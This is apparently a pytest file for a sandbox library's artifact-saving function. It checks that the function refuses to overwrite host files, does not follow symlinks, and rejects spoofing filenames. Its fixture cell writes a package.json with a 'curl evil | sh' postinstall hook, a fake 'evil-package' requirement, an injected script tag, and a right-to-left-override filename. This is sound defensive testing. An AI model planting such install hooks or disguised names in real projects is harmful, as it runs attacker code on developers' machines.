"""Result.save: names the sandbox chose, written on the host (issue 18,
findings 1 and 2).

A cell that writes package.json, requirements.txt or index.html must not
replace the host's copies, a link at the name or on the way must never be
followed, and the artifact's name must pass the same policy as `cellblock
run --out` (isolate/names.c): the cases of tests/unit/names_vectors.json
are checked here against the client's copy of it.
"""

import json
import os

import pytest

VECTORS = os.path.join(os.path.dirname(__file__), "..", "unit", "names_vectors.json")


def _cases():
    with open(VECTORS) as f:
        return json.load(f)["cases"]


def test_vectors_match_the_c_policy():
    from cellblock import names
    bad = []
    for c in _cases():
        raw = bytes.fromhex(c["hex"])
        got = names.verdict(raw, path=c["kind"] == "path")
        want = (c["verdict"], c["offset"], c.get("cp", got[2]) if c["verdict"] != "ok" else None)
        if got != want:
            bad.append((c, got))
        if names.escape(raw) != c["escaped"]:
            bad.append((c, names.escape(raw)))
        try:                            # the same for a str, where the bytes are UTF-8
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = raw.decode("utf-8", "surrogateescape")   # as os.fsdecode gives it
        if names.verdict(text, path=c["kind"] == "path") != got or names.escape(text) != c["escaped"]:
            bad.append((c, "str"))
    assert not bad, bad[:5]
    assert len(_cases()) > 100


def test_refusals_say_why():
    from cellblock import names
    with pytest.raises(names.NameRefused) as e:
        names.check_path("dir/invoice\u202efdp.csv")
    assert e.value.code == "bidi" and e.value.cp == 0x202E
    assert str(e.value) == ("'dir/invoice\\342\\200\\256fdp.csv' contains U+202E, a "
                            "bidirectional-text control (it can make a name display as another)")
    with pytest.raises(ValueError, match="C1 control"):
        names.check("csi\u009b")
    with pytest.raises(ValueError, match=r"not valid UTF-8 \(at byte 1\)"):
        names.check("a\ud800")          # a lone surrogate in a str
    assert names.check_path("plots/sq.png") == "plots/sq.png"


CELL = r'''
import os
os.makedirs("web", exist_ok=True)
open("package.json", "w").write('{"scripts": {"postinstall": "curl evil | sh"}}')
open("requirements.txt", "w").write("evil-package\n")
open("web/index.html", "w").write("<script>evil()</script>")
open("report.csv", "w").write("a,b\n1,2\n")
'''


def _arts(sb, code):
    ex = sb.run_code(code)
    assert ex.error is None, ex.error and ex.error.traceback
    return {r.file_name: r for r in ex.artifacts}


def test_save_never_replaces_host_files(sb, tmp_path):
    (tmp_path / "package.json").write_text('{"name": "mine"}')
    (tmp_path / "requirements.txt").write_text("requests\n")
    (tmp_path / "web").mkdir()
    (tmp_path / "web" / "index.html").write_text("<p>mine</p>")
    arts = _arts(sb, CELL)
    for name in ("package.json", "requirements.txt", "web/index.html"):
        with pytest.raises(FileExistsError, match="overwrite=True"):
            arts[name].save(tmp_path)
    assert (tmp_path / "package.json").read_text() == '{"name": "mine"}'
    assert (tmp_path / "requirements.txt").read_text() == "requests\n"
    assert (tmp_path / "web" / "index.html").read_text() == "<p>mine</p>"
    assert arts["report.csv"].save(tmp_path) == str(tmp_path / "report.csv")   # a new name: saved
    # a file path that exists is kept too
    with pytest.raises(FileExistsError):
        arts["report.csv"].save(tmp_path / "package.json")
    # overwrite=True replaces, atomically (no temporary left behind)
    assert arts["package.json"].save(tmp_path, overwrite=True) == str(tmp_path / "package.json")
    assert "postinstall" in (tmp_path / "package.json").read_text()
    assert sorted(os.listdir(tmp_path)) == ["package.json", "report.csv", "requirements.txt", "web"]


def test_save_never_follows_links(sb, tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    (outside / "victim.csv").write_text("precious\n")
    os.symlink(outside / "victim.csv", out / "report.csv")       # a link at the name
    os.symlink(outside, out / "web")                              # a link on the way
    os.symlink(out, tmp_path / "out-link")                        # the directory given is a link
    arts = _arts(sb, CELL)
    with pytest.raises(FileExistsError):
        arts["report.csv"].save(out)
    assert (outside / "victim.csv").read_text() == "precious\n"
    with pytest.raises(NotADirectoryError, match="follows no links"):
        arts["web/index.html"].save(out)
    assert sorted(os.listdir(outside)) == ["victim.csv"]
    with pytest.raises(IsADirectoryError, match="symbolic link"):
        arts["requirements.txt"].save(tmp_path / "out-link")
    assert not (out / "requirements.txt").exists()
    # overwrite replaces the link itself, never what it points to
    arts["report.csv"].save(out, overwrite=True)
    assert not os.path.islink(out / "report.csv")
    assert (out / "report.csv").read_text() == "a,b\n1,2\n"
    assert (outside / "victim.csv").read_text() == "precious\n"
    # a file path that is a dangling link is not written through either
    os.symlink(outside / "new.csv", out / "dangling.csv")
    with pytest.raises(FileExistsError):
        arts["report.csv"].save(out / "dangling.csv")
    assert not (outside / "new.csv").exists()


def test_save_refuses_names_the_policy_refuses(sb, tmp_path):
    arts = _arts(sb, r'''
open("invoice\u202efdp.csv", "w").write("x\n")
open("csi\u009b2J.csv", "w").write("x\n")
open("del\x7f.csv", "w").write("x\n")
open(b"caf\xe9.csv", "w").write("x\n")
''')
    from cellblock.names import NameRefused
    assert len(arts) == 4, list(arts)
    codes = {}
    for name, r in arts.items():
        with pytest.raises(NameRefused) as e:
            r.save(tmp_path)
        codes[e.value.code] = str(e.value)
    assert set(codes) == {"bidi", "c1", "del", "utf8"}, codes
    assert "\u202e" not in codes["bidi"] and "\\342\\200\\256" in codes["bidi"]
    assert os.listdir(tmp_path) == []
    # the bytes are still there for a caller who picks a name of its own
    r = arts["invoice\u202efdp.csv"]
    assert r.save(tmp_path / "invoice.csv") == str(tmp_path / "invoice.csv")
    assert (tmp_path / "invoice.csv").read_text() == "x\n"
